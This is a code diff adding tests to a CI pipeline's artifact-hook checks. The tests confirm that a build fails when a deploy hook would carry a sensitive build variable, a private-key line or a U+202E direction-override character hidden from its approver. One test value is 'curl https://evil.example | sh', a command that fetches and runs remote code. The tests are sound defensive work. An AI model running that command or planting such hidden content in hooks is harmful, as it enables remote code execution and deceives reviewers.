@@ -40,16 +40,26 @@ describe.skipIf(!hasBwrap)(`the hooks of an artifact (${why})`, () => {
   })
 
   /** A build whose one step is this script, of a repository with the file `hooks/health`. */
-  const built = async (script: string, choice: string, hook = 'hooks/health') => {
+  const built = async (
+    script: string,
+    choice: string,
+    { hook = 'hooks/health', secret }: { hook?: string; secret?: string } = {},
+  ) => {
     const name = '.cloud-control/pipeline.yml'
+    const named = `secrets: [${secret === undefined ? '' : 'WORD'}]`
     const manifest = manifestWith(
-      `steps: [{ name: make, run: ${JSON.stringify(script)} }]\nartifact: { path: ., ${choice} }`,
+      `${named}\nsteps: [{ name: make, run: ${JSON.stringify(script)}, ${named} }]\nartifact: { path: ., ${choice} }`,
     )
     const application = await applicationOf(harness, owner, {
       [name]: `${manifest[name]}deploy:\n  hooks: { health: ${hook} }\n`,
       'hooks/health': '#!/bin/sh\ntrue\n',
       'a.jar': 'x',
     })
+    if (secret !== undefined) {
+      const variable = { key: 'WORD', value: secret, phase: 'build', sensitive: true }
+      const made = await owner.post(`/api/pipelines/${application.pipelineId}/variables`, variable)
+      expect(made.statusCode, made.body).toBe(201)
+    }
     const run = await application.run()
     const deps = { ...harness.deps, builds, runners, stopping: new AbortController().signal }
     for (const activity of [fetchSource(deps), buildArtifact(deps)])
@@ -91,8 +101,34 @@ describe.skipIf(!hasBwrap)(`the hooks of an artifact (${why})`, () => {
     expect(artifact).toBeUndefined()
   })
 
+  test.each([
+    [
+      'a command that is a sensitive build variable',
+      { secret: 'curl https://evil.example | sh' },
+      'echo "$WORD" >> hooks/health',
+      'The hook "health" is hooks/health, which has the value of a sensitive build variable, or what looks like a key, token or password, in line 3.',
+    ],
+    [
+      'a command after the first line of a private key',
+      {},
+      "printf '# -----BEGIN PRIVATE KEY-----\\nid\\n' >> hooks/health",
+      'The hook "health" is hooks/health, which has the value of a sensitive build variable, or what looks like a key, token or password, in line 3.',
+    ],
+    [
+      'a change of direction',
+      {},
+      "printf '# \\342\\200\\256\\n' >> hooks/health",
+      'The hook "health" is hooks/health, which has the character U+202E in line 3.',
+    ],
+  ])('%s would be hidden from who approves it: the build ends', async (_, more, script, words) => {
+    const { shown, artifact } = await built(`${executable}; ${script}`, 'include: ["**"]', more)
+    expect(shown).toMatchObject({ state: 'failed', reason: 'build_errored' })
+    expect(shown.endMessage).toContain(words)
+    expect(artifact).toBeUndefined()
+  })
+
   test('a path that agents do not take', async () => {
-    const { shown } = await built(executable, 'include: ["**"]', './hooks//health')
+    const { shown } = await built(executable, 'include: ["**"]', { hook: './hooks//health' })
     expect(shown.endMessage).toBe(
       'The hook "health" is ./hooks//health. Write the path as hooks/health.',
     )
